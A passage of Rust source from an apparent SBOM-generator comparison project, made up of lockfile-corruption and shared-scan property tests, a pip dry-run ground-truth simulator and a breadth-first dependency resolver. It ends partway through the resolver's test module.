//! [`Diagnostic`] on the SBOM rather than a silently empty result.
//!
//! Deterministic by construction: fixed seeds, fixed iteration counts.

use rand::{rngs::StdRng, Rng, SeedableRng};
use sbomdiff_generators::{studied_tools, BestPracticeGenerator, SbomGenerator, ToolId};
use sbomdiff_metadata::RepoFs;
use sbomdiff_registry::Registries;
use sbomdiff_types::{DiagClass, Sbom, Severity};

/// Pristine metadata files. Every kind here is supported by all four
/// studied tools (Table II), and each parses cleanly: the baseline scan
/// yields zero diagnostics, so any diagnostic seen after corruption was
/// caused by that corruption.
fn base_files() -> Vec<(&'static str, &'static str)> {
    vec![
        (
            "package-lock.json",
            r#"{"name":"demo","lockfileVersion":3,"packages":{"":{"name":"demo"},"node_modules/ms":{"version":"2.1.3"},"node_modules/debug":{"version":"4.3.4"}}}"#,
        ),
        (
            "Pipfile.lock",
            r#"{"default":{"requests":{"version":"==2.31.0"},"urllib3":{"version":"==2.0.4"}},"develop":{}}"#,
        ),
        (
            "poetry.lock",
            "[[package]]\nname = \"requests\"\nversion = \"2.31.0\"\ncategory = \"main\"\n\n[[package]]\nname = \"urllib3\"\nversion = \"2.0.4\"\ncategory = \"main\"\n",
        ),
        (
            "pom.xml",
            "<project><groupId>com.demo</groupId><artifactId>app</artifactId><dependencies><dependency><groupId>com.google.guava</groupId><artifactId>guava</artifactId><version>32.1.2</version></dependency></dependencies></project>",
        ),
        (
            "go.mod",
            "module demo\n\nrequire github.com/pkg/errors v0.9.1\n",
        ),
        ("requirements.txt", "numpy==1.19.2\nflask==2.0.1\n"),
        (
            "Cargo.lock",
            "version = 3\n\n[[package]]\nname = \"serde\"\nversion = \"1.0.188\"\n",
        ),
    ]
}

/// Scans `repo` with all four studied emulators plus the best-practice
/// generator; a panic anywhere aborts the test.
fn scan_all(regs: &Registries, repo: &RepoFs) -> Vec<(ToolId, Sbom)> {
    let mut out = Vec::new();
    for tool in studied_tools(regs, 0.0) {
        out.push((tool.id(), tool.generate(repo)));
    }
    let bp = BestPracticeGenerator::new(regs);
    out.push((bp.id(), bp.generate(repo)));
    out
}

fn repo_with(path: &str, bytes: Vec<u8>) -> RepoFs {
    let mut repo = RepoFs::new("corruption-props");
    repo.add_bytes(path, bytes);
    repo
}

#[test]
fn pristine_baseline_has_no_diagnostics() {
    let regs = Registries::generate(7);
    let mut repo = RepoFs::new("pristine");
    for (path, content) in base_files() {
        repo.add_text(path, content);
    }
    for (id, sbom) in scan_all(&regs, &repo) {
        let studied = ToolId::STUDIED.contains(&id);
        if studied {
            assert!(
                sbom.diagnostics().is_empty(),
                "{id}: unexpected baseline diagnostics {:?}",
                sbom.diagnostics()
            );
        }
        assert!(!sbom.is_empty(), "{id}: baseline scan found nothing");
    }
}

/// Every strict prefix of a JSON lockfile is invalid JSON, so every
/// truncation point must yield at least one classified error diagnostic
/// from every studied tool (all four support both kinds) — never a panic,
/// never a silently empty SBOM.
#[test]
fn truncated_json_lockfiles_always_classify() {
    let regs = Registries::generate(7);
    for (path, content) in [
        (
            "package-lock.json",
            r#"{"name":"demo","lockfileVersion":3,"packages":{"":{"name":"demo"},"node_modules/ms":{"version":"2.1.3"}}}"#,
        ),
        (
            "Pipfile.lock",
            r#"{"default":{"requests":{"version":"==2.31.0"}},"develop":{}}"#,
        ),
    ] {
        for cut in 1..content.len() {
            let repo = repo_with(path, content.as_bytes()[..cut].to_vec());
            for (id, sbom) in scan_all(&regs, &repo) {
                let classified = sbom.diagnostics().iter().any(|d| {
                    d.severity == Severity::Error
                        && d.path.as_deref() == Some(path)
                        && matches!(
                            d.class,
                            DiagClass::MalformedFile | DiagClass::TruncatedInput
                        )
                });
                assert!(
                    classified,
                    "{id}: no classified diagnostic for {path} cut at {cut}: {:?}",
                    sbom.diagnostics()
                );
            }
        }
    }
}

/// Random truncations of every base file never panic any generator, and
/// repeating the scan reproduces byte-identical SBOMs (diagnostics
/// included).
#[test]
fn random_truncations_never_panic_and_are_deterministic() {
    let regs = Registries::generate(7);
    let mut rng = StdRng::seed_from_u64(0xdead_4a11);
    for (path, content) in base_files() {
        for _ in 0..40 {
            let cut = rng.gen_range(0..=content.len());
            let repo = repo_with(path, content.as_bytes()[..cut].to_vec());
            let first = scan_all(&regs, &repo);
            let second = scan_all(&regs, &repo);
            for ((id, a), (_, b)) in first.iter().zip(&second) {
                assert_eq!(a, b, "{id}: nondeterministic scan of {path} cut {cut}");
            }
        }
    }
}

/// A `0xFF` byte is invalid anywhere in UTF-8, so smashing one into any
/// text metadata file must surface an encoding-error diagnostic from
/// every studied tool that supports the kind — the file must not be
/// silently treated as empty.
#[test]
fn invalid_utf8_yields_encoding_error_from_every_profile() {
    let regs = Registries::generate(7);
    let mut rng = StdRng::seed_from_u64(0x0ff_bad);
    for (path, content) in base_files() {
        let mut positions = vec![0, content.len() / 2, content.len() - 1];
        positions.push(rng.gen_range(0..content.len()));
        for pos in positions {
            let mut bytes = content.as_bytes().to_vec();
            bytes[pos] = 0xFF;
            let repo = repo_with(path, bytes);
            for tool in studied_tools(&regs, 0.0) {
                let sbom = tool.generate(&repo);
                let flagged = sbom.diagnostics().iter().any(|d| {
                    d.class == DiagClass::EncodingError && d.path.as_deref() == Some(path)
                });
                assert!(
                    flagged,
                    "{}: no encoding-error diagnostic for {path} with 0xFF at {pos}: {:?}",
                    tool.id(),
                    sbom.diagnostics()
                );
                assert!(
                    sbom.is_empty(),
                    "{}: parsed components out of invalid UTF-8",
                    tool.id()
                );
            }
        }
    }
}

/// Arbitrary bit flips across every base file: no generator may panic,
/// whatever the mutation does to the file.
#[test]
fn bit_flips_never_panic() {
    let regs = Registries::generate(7);
    let mut rng = StdRng::seed_from_u64(0xb17_f11b);
    for (path, content) in base_files() {
        for _ in 0..60 {
            let mut bytes = content.as_bytes().to_vec();
            for _ in 0..rng.gen_range(1usize..=8) {
                let i = rng.gen_range(0..bytes.len());
                bytes[i] ^= 1 << rng.gen_range(0u32..8);
            }
            let repo = repo_with(path, bytes);
            for (_, sbom) in scan_all(&regs, &repo) {
                // Touch the diagnostics so corrupted scans exercise the
                // accessor path too.
                let _ = sbom.diagnostics().len();
            }
        }
    }
}

//! Cross-profile differential properties for the shared-scan pipeline.
//!
//! The tentpole invariant: a profile's SBOM derived through a shared
//! [`ScanContext`] (one walk, one parse per file and parser family) is
//! **byte-identical** to the SBOM from its isolated per-profile scan
//! ([`ToolEmulator::scan_isolated`] / `BestPracticeGenerator::generate`,
//! the pre-sharing oracles). Profile quirks must behave as post-parse
//! transforms — sharing the parse may never leak one profile's dialect,
//! version policy, or diagnostics into another's output.
//!
//! Synthetic repositories mix ecosystems (requirements.txt, go.mod,
//! package-lock.json, Cargo.lock, pom.xml), nested directories, unpinned
//! requirements and truncated lockfiles, so the properties cover both the
//! happy path and the diagnostic-emitting paths.

use std::collections::BTreeMap;

use proptest::prelude::*;

use sbomdiff_generators::{
    studied_tools, BestPracticeGenerator, ParseCache, SbomGenerator, ScanContext, ToolEmulator,
};
use sbomdiff_metadata::RepoFs;
use sbomdiff_registry::Registries;
use sbomdiff_sbomfmt::SbomFormat;
use sbomdiff_types::Sbom;

fn version() -> impl Strategy<Value = String> {
    (0u32..40, 0u32..40, 0u32..10).prop_map(|(a, b, c)| format!("{a}.{b}.{c}"))
}

/// A requirements.txt mixing pinned, ranged and unpinned lines (the latter
/// two are what the Table IV version policies disagree about).
fn requirements() -> impl Strategy<Value = (String, String)> {
    prop::collection::vec(
        ("[a-f]{3,8}", version(), 0u8..3).prop_map(|(name, ver, style)| match style {
            0 => format!("{name}=={ver}"),
            1 => format!("{name}>={ver}"),
            _ => name,
        }),
        1..6,
    )
    .prop_map(|lines| ("requirements.txt".to_string(), lines.join("\n") + "\n"))
}

fn gomod() -> impl Strategy<Value = (String, String)> {
    prop::collection::vec(("[a-f]{3,8}", version()), 1..5).prop_map(|deps| {
        let mut text = String::from("module demo\n\n");
        for (name, ver) in deps {
            text.push_str(&format!("require github.com/demo/{name} v{ver}\n"));
        }
        ("go.mod".to_string(), text)
    })
}

fn package_lock() -> impl Strategy<Value = (String, String)> {
    prop::collection::vec(("[a-f]{3,8}", version()), 1..5).prop_map(|deps| {
        let mut text =
            String::from(r#"{"name":"demo","lockfileVersion":3,"packages":{"":{"name":"demo"}"#);
        for (name, ver) in deps {
            text.push_str(&format!(r#","node_modules/{name}":{{"version":"{ver}"}}"#));
        }
        text.push_str("}}");
        ("package-lock.json".to_string(), text)
    })
}

fn cargo_lock() -> impl Strategy<Value = (String, String)> {
    prop::collection::vec(("[a-f]{3,8}", version()), 1..5).prop_map(|deps| {
        let mut text = String::from("version = 3\n");
        for (name, ver) in deps {
            text.push_str(&format!(
                "\n[[package]]\nname = \"{name}\"\nversion = \"{ver}\"\n"
            ));
        }
        ("Cargo.lock".to_string(), text)
    })
}

fn pom() -> impl Strategy<Value = (String, String)> {
    prop::collection::vec(("[a-f]{3,8}", version()), 1..4).prop_map(|deps| {
        let mut text = String::from(
            "<project><groupId>com.demo</groupId><artifactId>app</artifactId><dependencies>",
        );
        for (name, ver) in deps {
            text.push_str(&format!(
                "<dependency><groupId>com.demo</groupId><artifactId>{name}</artifactId><version>{ver}</version></dependency>"
            ));
        }
        text.push_str("</dependencies></project>");
        ("pom.xml".to_string(), text)
    })
}

/// A JSON lockfile truncated mid-document: every profile must surface the
/// same classified diagnostics through the shared scan as in isolation.
fn truncated_lock() -> impl Strategy<Value = (String, String)> {
    (package_lock(), 1usize..60).prop_map(|((path, content), cut)| {
        let cut = cut.min(content.len() - 1).max(1);
        (path, content[..cut].to_string())
    })
}

/// One synthetic repository: 1–4 metadata files of mixed kinds, each in
/// its own directory so paths never collide and the best-practice
/// generator's per-directory grouping is exercised.
fn repo_files() -> impl Strategy<Value = Vec<(String, String)>> {
    prop::collection::vec(
        prop_oneof![
            requirements(),
            gomod(),
            package_lock(),
            cargo_lock(),
            pom(),
            truncated_lock(),
        ],
        1..5,
    )
}

fn build_repo(files: &[(String, String)]) -> RepoFs {
    let mut repo = RepoFs::new("shared-scan-props");
    for (i, (path, content)) in files.iter().enumerate() {
        repo.add_text(format!("m{i}/{path}"), content);
    }
    repo
}

/// Diagnostics per class label: the census the shared scan must preserve.
fn diag_census(sbom: &Sbom) -> BTreeMap<&'static str, usize> {
    let mut census = BTreeMap::new();
    for diag in sbom.diagnostics() {
        *census.entry(diag.class.label()).or_insert(0) += 1;
    }
    census
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(24))]

    /// Every studied profile — including the sbom-tool emulator with its
    /// (deterministically seeded) flaky registry at the paper's failure
    /// rate — produces byte-identical SBOMs through the shared scan and
    /// the isolated oracle, with the per-class diagnostic census intact.
    #[test]
    fn shared_scan_matches_isolated_oracle(files in repo_files()) {
        let regs = Registries::generate(11);
        let repo = build_repo(&files);
        let cache = ParseCache::new();
        let scan = ScanContext::new(&repo, &cache);
        for tool in studied_tools(&regs, 0.18) {
            let shared = tool.generate_with_scan(&scan);
            let isolated = tool.scan_isolated(&repo);
            prop_assert_eq!(&shared, &isolated, "{}: shared != isolated", tool.id());
            for format in [SbomFormat::CycloneDx, SbomFormat::Spdx] {
                prop_assert_eq!(
                    format.serialize(&shared),
                    format.serialize(&isolated),
                    "{}: serialized documents diverge",
                    tool.id()
                );
            }
            prop_assert_eq!(
                diag_census(&shared),
                diag_census(&isolated),
                "{}: diagnostic census diverges",
                tool.id()
            );
        }
        let bp = BestPracticeGenerator::new(&regs);
        let shared = bp.generate_with_scan(&scan);
        let isolated = bp.generate(&repo);
        prop_assert_eq!(&shared, &isolated, "best-practice: shared != isolated");
        prop_assert_eq!(
            SbomFormat::CycloneDx.serialize(&shared),
            SbomFormat::CycloneDx.serialize(&isolated)
        );
        prop_assert_eq!(diag_census(&shared), diag_census(&isolated));
    }

    /// Parse-once: one context parses each file at most once per parser
    /// family and requirements dialect (≤ 4 entries per file), and
    /// replaying every generator against the same context parses nothing.
    #[test]
    fn one_parse_per_file_and_dialect(files in repo_files()) {
        let regs = Registries::generate(11);
        let repo = build_repo(&files);
        let cache = ParseCache::new();
        let scan = ScanContext::new(&repo, &cache);
        let tools = studied_tools(&regs, 0.0);
        for tool in &tools {
            tool.generate_with_scan(&scan);
        }
        BestPracticeGenerator::new(&regs).generate_with_scan(&scan);
        let first_pass = cache.misses();
        prop_assert!(
            first_pass <= scan.files().len() as u64 * 4,
            "{} parses for {} files",
            first_pass,
            scan.files().len()
        );
        for tool in &tools {
            tool.generate_with_scan(&scan);
        }
        BestPracticeGenerator::new(&regs).generate_with_scan(&scan);
        prop_assert_eq!(cache.misses(), first_pass, "replay re-parsed a file");
    }

    /// A warm cross-request cache never changes output: re-scanning the
    /// same repository through a fresh context over a warmed cache yields
    /// the same SBOMs as the cold pass.
    #[test]
    fn warm_cache_preserves_outputs(files in repo_files()) {
        let regs = Registries::generate(11);
        let repo = build_repo(&files);
        let cache = ParseCache::new();
        let tools = studied_tools(&regs, 0.18);
        let cold: Vec<Sbom> = {
            let scan = ScanContext::new(&repo, &cache);
            tools.iter().map(|t| t.generate_with_scan(&scan)).collect()
        };
        prop_assert!(cache.misses() > 0);
        let warm: Vec<Sbom> = {
            let scan = ScanContext::new(&repo, &cache);
            tools.iter().map(|t| t.generate_with_scan(&scan)).collect()
        };
        prop_assert_eq!(cold, warm);
    }
}

/// Identical parser diagnostics are *shared* across profiles — one
/// `Arc<Diagnostic>` allocation referenced by every SBOM that saw the
/// same parse — while the per-profile `diagnostic_totals` census still
/// counts one occurrence per profile (sharing the allocation must not
/// collapse the counts).
#[test]
fn parser_diagnostics_are_shared_not_duplicated() {
    use sbomdiff_diff::diagnostic_totals;
    use std::sync::Arc;

    let mut repo = RepoFs::new("diag-share");
    // Truncated JSON: every profile that supports package-lock.json gets
    // the same parser diagnostic from the same shared parse.
    repo.add_text("package-lock.json", r#"{"name":"demo","lockfileVersion"#);
    let cache = ParseCache::new();
    let scan = ScanContext::new(&repo, &cache);
    let trivy = ToolEmulator::trivy().generate_with_scan(&scan);
    let syft = ToolEmulator::syft().generate_with_scan(&scan);
    assert_eq!(trivy.diagnostics().len(), 1);
    assert_eq!(syft.diagnostics().len(), 1);
    assert!(
        Arc::ptr_eq(&trivy.diagnostics()[0], &syft.diagnostics()[0]),
        "both profiles must reference the one parser diagnostic allocation"
    );
    // The census is per-profile: the shared allocation counts once for
    // each SBOM carrying it, exactly as two isolated scans would.
    let shared_totals = diagnostic_totals([&trivy, &syft]);
    let isolated_totals = diagnostic_totals([
        &ToolEmulator::trivy().scan_isolated(&repo),
        &ToolEmulator::syft().scan_isolated(&repo),
    ]);
    assert_eq!(shared_totals, isolated_totals);
    assert_eq!(shared_totals.values().sum::<usize>(), 2);
}

/// The Trivy/Syft dialect share is itself differential: Trivy and Syft
/// read the same cached parse, yet GitHub DG (different dialect) still
/// sees its own parse — a wrong dialect collapse would surface here as a
/// cross-profile leak.
#[test]
fn dialect_sharing_never_leaks_across_profiles() {
    let mut repo = RepoFs::new("dialect-leak");
    repo.add_text("requirements.txt", "numpy==1.19.2\nflask>=2.0\nrequests\n");
    let cache = ParseCache::new();
    let scan = ScanContext::new(&repo, &cache);
    let trivy = ToolEmulator::trivy().generate_with_scan(&scan);
    let syft = ToolEmulator::syft().generate_with_scan(&scan);
    let github = ToolEmulator::github_dg().generate_with_scan(&scan);
    assert_eq!(trivy.components(), syft.components(), "shared dialect");
    assert_eq!(trivy, ToolEmulator::trivy().scan_isolated(&repo));
    assert_eq!(github, ToolEmulator::github_dg().scan_isolated(&repo));
}

//! The `pip install --dry-run` ground-truth simulator (§V-H).
//!
//! Given a repository's `requirements.txt` (plus any files it includes via
//! `-r`), this computes the exact set of `(name, version)` pairs pip would
//! install on the evaluation platform: full PEP 508 parsing, `-r` include
//! following, environment-marker evaluation, extras activation, and
//! transitive resolution against the registry.

use std::collections::BTreeMap;

use sbomdiff_metadata::python::{parse_requirements, ReqStyle};
use sbomdiff_registry::RegistryClient;
use sbomdiff_types::{DependencySource, Diagnostic, ResolvedPackage};

use crate::engine::{resolve, DedupPolicy, RootDep};
use crate::platform::{marker_allows, Platform};

/// The outcome of a dry run.
#[derive(Debug, Clone, Default)]
pub struct DryRunReport {
    /// Packages that would be installed (the Table III ground truth).
    pub installed: Vec<ResolvedPackage>,
    /// Declarations pip could not satisfy (unknown names, empty ranges,
    /// non-registry sources we cannot fetch).
    pub unresolved: Vec<String>,
    /// Classified parse diagnostics from the requirements files read during
    /// the dry run (malformed lines, truncated includes, dropped syntax).
    pub diagnostics: Vec<Diagnostic>,
}

impl DryRunReport {
    /// `(name, version)` pairs for comparison with SBOM contents.
    pub fn keys(&self) -> impl Iterator<Item = (String, String)> + '_ {
        self.installed.iter().map(ResolvedPackage::key)
    }

    /// Fraction of installed packages that are transitive (§V-C reports
    /// about 74% for Python).
    pub fn transitive_share(&self) -> f64 {
        if self.installed.is_empty() {
            return 0.0;
        }
        self.installed.iter().filter(|p| p.transitive).count() as f64 / self.installed.len() as f64
    }
}

/// Simulates `pip install --dry-run -r <entry>` against the registry.
///
/// `files` maps repo-relative paths to contents so `-r`/`-c` includes can be
/// followed; `entry` is the requirements file to start from.
///
/// # Examples
///
/// ```
/// use sbomdiff_registry::{PackageUniverse, UniverseConfig};
/// use sbomdiff_resolver::{dry_run, Platform};
/// use sbomdiff_types::Ecosystem;
///
/// let registry = PackageUniverse::generate(
///     &UniverseConfig { package_count: 10, ..UniverseConfig::for_ecosystem(Ecosystem::Python, 1) },
/// );
/// let files = [("requirements.txt".to_string(), "requests==2.31.0\n".to_string())].into();
/// let report = dry_run(&registry, &files, "requirements.txt", &Platform::default());
/// // requests plus its transitive dependencies, all pinned.
/// assert!(report.installed.iter().any(|p| p.name == "requests"));
/// assert!(report.transitive_share() > 0.0);
/// ```
pub fn dry_run<C: RegistryClient>(
    registry: &C,
    files: &BTreeMap<String, String>,
    entry: &str,
    platform: &Platform,
) -> DryRunReport {
    let mut roots: Vec<RootDep> = Vec::new();
    let mut unresolved: Vec<String> = Vec::new();
    let mut diagnostics: Vec<Diagnostic> = Vec::new();
    let mut visited_files: Vec<String> = Vec::new();
    collect_roots(
        files,
        entry,
        platform,
        &mut roots,
        &mut unresolved,
        &mut diagnostics,
        &mut visited_files,
    );

    let resolution = resolve(registry, &roots, DedupPolicy::HighestWins, true);
    unresolved.extend(resolution.failures.iter().cloned());

    let ecosystem = sbomdiff_types::Ecosystem::Python;
    let installed = resolution
        .packages
        .into_iter()
        .map(|p| ResolvedPackage {
            name: sbomdiff_types::name::normalize(ecosystem, &p.name),
            version: p.version,
            transitive: p.transitive,
        })
        .collect();
    DryRunReport {
        installed,
        unresolved,
        diagnostics,
    }
}

fn collect_roots(
    files: &BTreeMap<String, String>,
    path: &str,
    platform: &Platform,
    roots: &mut Vec<RootDep>,
    unresolved: &mut Vec<String>,
    diagnostics: &mut Vec<Diagnostic>,
    visited: &mut Vec<String>,
) {
    if visited.iter().any(|v| v == path) {
        return; // include cycle
    }
    visited.push(path.to_string());
    let Some(content) = lookup_file(files, path) else {
        unresolved.push(format!("-r {path}"));
        return;
    };
    let parsed = parse_requirements(content, ReqStyle::Pip).with_path(path);
    diagnostics.extend(parsed.diags.iter().map(|d| (**d).clone()));
    for dep in &parsed {
        match &dep.source {
            DependencySource::IncludeFile(inc) => {
                let resolved_path = sibling_path(path, inc);
                collect_roots(
                    files,
                    &resolved_path,
                    platform,
                    roots,
                    unresolved,
                    diagnostics,
                    visited,
                );
            }
            DependencySource::ConstraintsFile(_) => {
                // Constraints limit versions but do not add packages; the
                // synthetic corpus does not exercise conflicting pins, so
                // they are a no-op here.
            }
            DependencySource::Registry => {
                if let Some(marker) = &dep.marker {
                    if !marker_allows(marker, platform) {
                        continue;
                    }
                }
                roots.push(RootDep {
                    name: dep.name.raw().to_string(),
                    req: dep.req.clone(),
                    scope: dep.scope,
                    extras: dep.extras.clone(),
                });
            }
            DependencySource::Path(p) => {
                // Local installs resolve only if the wheel filename pinned a
                // version; otherwise pip would build it — unresolvable here.
                if let Some(v) = dep.pinned_version() {
                    roots.push(RootDep {
                        name: dep.name.raw().to_string(),
                        req: Some(sbomdiff_types::VersionReq::exact(v.clone())),
                        scope: dep.scope,
                        extras: dep.extras.clone(),
                    });
                } else {
                    unresolved.push(p.clone());
                }
            }
            DependencySource::Url(u) => {
                if let Some(v) = dep.pinned_version() {
                    roots.push(RootDep {
                        name: dep.name.raw().to_string(),
                        req: Some(sbomdiff_types::VersionReq::exact(v.clone())),
                        scope: dep.scope,
                        extras: dep.extras.clone(),
                    });
                } else {
                    unresolved.push(u.clone());
                }
            }
            DependencySource::Vcs { url, .. } => {
                // VCS installs fetch arbitrary source; pip can install them
                // but our registry cannot know their version. Resolve to
                // the registry's latest when the name is known (close to
                // what a default-branch install yields), else unresolved.
                unresolved.push(format!("{} @ {url}", dep.name.raw()));
            }
        }
    }
}

fn lookup_file<'a>(files: &'a BTreeMap<String, String>, path: &str) -> Option<&'a str> {
    if let Some(c) = files.get(path) {
        return Some(c);
    }
    // Fall back to basename matching (includes are usually sibling files).
    let base = path.rsplit('/').next()?;
    files
        .iter()
        .find(|(k, _)| k.rsplit('/').next() == Some(base))
        .map(|(_, v)| v.as_str())
}

fn sibling_path(current: &str, include: &str) -> String {
    match current.rsplit_once('/') {
        Some((dir, _)) if !include.starts_with('/') => format!("{dir}/{include}"),
        _ => include.to_string(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use sbomdiff_registry::{PackageUniverse, UniverseConfig};
    use sbomdiff_types::Ecosystem;

    fn registry() -> PackageUniverse {
        PackageUniverse::generate(&UniverseConfig {
            package_count: 30,
            ..UniverseConfig::for_ecosystem(Ecosystem::Python, 4242)
        })
    }

    fn files(entries: &[(&str, &str)]) -> BTreeMap<String, String> {
        entries
            .iter()
            .map(|(k, v)| (k.to_string(), v.to_string()))
            .collect()
    }

    #[test]
    fn resolves_pinned_and_ranged() {
        let reg = registry();
        let fs = files(&[("requirements.txt", "numpy==1.19.2\nrequests>=2.8.1\n")]);
        let report = dry_run(&reg, &fs, "requirements.txt", &Platform::default());
        let names: Vec<&str> = report.installed.iter().map(|p| p.name.as_str()).collect();
        assert!(names.contains(&"numpy"));
        assert!(names.contains(&"requests"));
        // requests 2.31.0 pulls transitives.
        assert!(names.contains(&"urllib3"));
        let numpy = report.installed.iter().find(|p| p.name == "numpy").unwrap();
        assert_eq!(numpy.version.to_string(), "1.19.2");
        assert!(report.transitive_share() > 0.0);
    }

    #[test]
    fn follows_includes() {
        let reg = registry();
        let fs = files(&[
            ("requirements.txt", "-r common.txt\nnumpy==1.21.0\n"),
            ("common.txt", "requests==2.31.0\n"),
        ]);
        let report = dry_run(&reg, &fs, "requirements.txt", &Platform::default());
        let names: Vec<&str> = report.installed.iter().map(|p| p.name.as_str()).collect();
        assert!(names.contains(&"requests"));
        assert!(names.contains(&"numpy"));
    }

    #[test]
    fn include_cycles_terminate() {
        let reg = registry();
        let fs = files(&[
            ("a.txt", "-r b.txt\nnumpy==1.19.2\n"),
            ("b.txt", "-r a.txt\n"),
        ]);
        let report = dry_run(&reg, &fs, "a.txt", &Platform::default());
        assert_eq!(report.installed.len(), 1);
    }

    #[test]
    fn markers_filter_on_platform() {
        let reg = registry();
        let fs = files(&[(
            "requirements.txt",
            "pywin32>=300; sys_platform == 'win32'\nnumpy==1.19.2\n",
        )]);
        let report = dry_run(&reg, &fs, "requirements.txt", &Platform::default());
        let names: Vec<&str> = report.installed.iter().map(|p| p.name.as_str()).collect();
        assert!(!names.contains(&"pywin32"));
        assert!(names.contains(&"numpy"));
    }

    #[test]
    fn extras_pull_extra_deps() {
        let reg = registry();
        let fs = files(&[("requirements.txt", "requests[security]==2.31.0\n")]);
        let report = dry_run(&reg, &fs, "requirements.txt", &Platform::default());
        let names: Vec<&str> = report.installed.iter().map(|p| p.name.as_str()).collect();
        assert!(names.contains(&"pyopenssl"), "{names:?}");
        let plain_fs = files(&[("requirements.txt", "requests==2.31.0\n")]);
        let plain = dry_run(&reg, &plain_fs, "requirements.txt", &Platform::default());
        assert_eq!(report.installed.len(), plain.installed.len() + 1);
    }

    #[test]
    fn unknown_packages_are_unresolved() {
        let reg = registry();
        let fs = files(&[("requirements.txt", "no-such-package==1.0\n")]);
        let report = dry_run(&reg, &fs, "requirements.txt", &Platform::default());
        assert!(report.installed.is_empty());
        assert_eq!(report.unresolved, vec!["no-such-package".to_string()]);
    }

    #[test]
    fn missing_include_reported() {
        let reg = registry();
        let fs = files(&[("requirements.txt", "-r nowhere.txt\n")]);
        let report = dry_run(&reg, &fs, "requirements.txt", &Platform::default());
        assert_eq!(report.unresolved, vec!["-r nowhere.txt".to_string()]);
    }

    #[test]
    fn names_are_normalized() {
        let reg = registry();
        let fs = files(&[("requirements.txt", "NumPy==1.19.2\n")]);
        let report = dry_run(&reg, &fs, "requirements.txt", &Platform::default());
        assert_eq!(report.installed[0].name, "numpy");
    }
}

//! A generic breadth-first dependency resolver over a registry client.
//!
//! Used by the corpus generator to synthesize lockfiles consistent with raw
//! metadata, and by the ground-truth dry run (via pip-flavored settings).

use std::collections::{BTreeMap, VecDeque};

use sbomdiff_faultline as fault;
use sbomdiff_registry::RegistryClient;
use sbomdiff_types::{DepScope, Version, VersionReq};

/// A root (directly declared) dependency to resolve.
#[derive(Debug, Clone)]
pub struct RootDep {
    /// Package name.
    pub name: String,
    /// Declared requirement (`None` = any version, resolved to latest).
    pub req: Option<VersionReq>,
    /// Declared scope (propagated to the resolved entries).
    pub scope: DepScope,
    /// Requested extras (Python).
    pub extras: Vec<String>,
}

impl RootDep {
    /// Creates a runtime-scoped root without extras.
    pub fn new(name: impl Into<String>, req: Option<VersionReq>) -> Self {
        RootDep {
            name: name.into(),
            req,
            scope: DepScope::Runtime,
            extras: Vec::new(),
        }
    }
}

/// How version conflicts between sibling requirements are settled.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum DedupPolicy {
    /// One version per package; the first resolution wins (Maven
    /// "nearest wins").
    FirstWins,
    /// One version per package; the highest resolved version wins
    /// (pip, Composer, bundler).
    HighestWins,
    /// One version per semver-major (Cargo, and a good npm approximation).
    PerMajor,
}

/// One resolved package in the install set.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ResolvedEntry {
    /// Package name as the registry spells it.
    pub name: String,
    /// Concrete resolved version.
    pub version: Version,
    /// Scope inherited from the root that pulled this in.
    pub scope: DepScope,
    /// False for directly declared roots, true for transitives.
    pub transitive: bool,
}

/// A complete resolution.
#[derive(Debug, Clone, Default)]
pub struct Resolution {
    /// Resolved entries in BFS discovery order.
    pub packages: Vec<ResolvedEntry>,
    /// Root names that could not be resolved (unknown package / no version
    /// in range / registry failure).
    pub failures: Vec<String>,
    /// Transitive visits dropped because their package did not resolve
    /// (dead registry edge, no version in range, or an injected fault).
    /// Keeps silent pruning countable: a fault-injection harness can
    /// assert every injected resolver fault is visible here or in
    /// `failures`.
    pub pruned_transitives: usize,
}

impl Resolution {
    /// Number of transitive entries.
    pub fn transitive_count(&self) -> usize {
        self.packages.iter().filter(|p| p.transitive).count()
    }
}

/// Resolves roots and their transitive closure against a registry.
///
/// `honor_markers` controls platform-marker filtering of registry edges
/// (true for the pip dry run; false for sbom-tool emulation).
pub fn resolve<C: RegistryClient>(
    registry: &C,
    roots: &[RootDep],
    policy: DedupPolicy,
    honor_markers: bool,
) -> Resolution {
    let mut resolution = Resolution::default();
    // Key: package identity under the policy.
    let mut chosen: BTreeMap<String, usize> = BTreeMap::new();
    let mut queue: VecDeque<(RootDep, bool)> = roots.iter().cloned().map(|r| (r, false)).collect();

    let mut guard = 0usize;
    while let Some((dep, transitive)) = queue.pop_front() {
        guard += 1;
        if guard > 100_000 {
            break; // defensive bound; registry DAGs terminate well below this
        }
        // Fault point: an injected failure drops this visit exactly like an
        // unresolvable package — roots land in `failures`, transitives are
        // silently pruned (matching real resolver behavior on a dead edge).
        if fault::point!(fault::sites::RESOLVER_VISIT, &dep.name).is_some() {
            if transitive {
                resolution.pruned_transitives += 1;
            } else {
                resolution.failures.push(dep.name.clone());
            }
            continue;
        }
        let resolved_version = match &dep.req {
            Some(req) => registry.latest_matching(&dep.name, req),
            None => registry.latest(&dep.name),
        };
        let Some(version) = resolved_version else {
            if transitive {
                resolution.pruned_transitives += 1;
            } else {
                resolution.failures.push(dep.name.clone());
            }
            continue;
        };
        let key = match policy {
            DedupPolicy::PerMajor => format!("{}@{}", dep.name, version.segment(0)),
            _ => dep.name.clone(),
        };
        if let Some(&existing_idx) = chosen.get(&key) {
            match policy {
                DedupPolicy::FirstWins | DedupPolicy::PerMajor => continue,
                DedupPolicy::HighestWins => {
                    if resolution.packages[existing_idx].version >= version {
                        continue;
                    }
                    // Upgrade in place; edges of the higher version replace.
                    resolution.packages[existing_idx].version = version.clone();
                }
            }
        } else {
            chosen.insert(key, resolution.packages.len());
            resolution.packages.push(ResolvedEntry {
                name: dep.name.clone(),
                version: version.clone(),
                scope: dep.scope,
                transitive,
            });
        }
        if let Some(edges) = registry.deps_of(&dep.name, &version, &dep.extras, honor_markers) {
            for edge in edges {
                queue.push_back((
                    RootDep {
                        name: edge.name,
                        req: Some(edge.req),
                        scope: dep.scope,
                        extras: Vec::new(),
                    },
                    true,
                ));
            }
        }
    }
    resolution
}

#[cfg(test)]
mod tests {
    use super::*;
    use sbomdiff_registry::{PackageEntry, PackageUniverse, RegistryDep, VersionEntry};
    use sbomdiff_types::{ConstraintFlavor, Ecosystem};

    fn req(s: &str) -> VersionReq {
        VersionReq::parse(s, ConstraintFlavor::Pep440).unwrap()
    }

    fn universe() -> PackageUniverse {
        let mut uni = PackageUniverse::new(Ecosystem::Python);
